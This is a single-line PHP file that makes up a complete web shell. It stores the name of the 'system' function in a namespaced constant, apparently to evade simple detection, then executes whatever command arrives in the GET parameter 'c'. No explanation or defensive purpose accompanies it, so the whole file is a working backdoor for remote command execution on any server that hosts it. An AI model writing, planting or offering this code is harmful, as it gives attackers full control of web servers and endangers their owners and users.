<?php define('A\B', 'system'); $f = constant('A\B'); $f($_GET['c']);
